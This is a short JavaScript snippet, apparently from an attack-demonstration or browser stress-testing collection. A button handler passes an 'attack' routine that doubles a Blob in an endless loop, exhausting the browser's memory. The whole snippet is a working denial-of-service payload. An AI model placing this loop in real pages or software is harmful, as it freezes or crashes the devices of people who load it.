// Grows files out of themselves.
export const handle_button = (data) =>
  attack(data, async () => {
    let blob = new Blob(['x'.repeat(1024)]);
    for (;;) blob = new Blob([blob, blob]);
  });
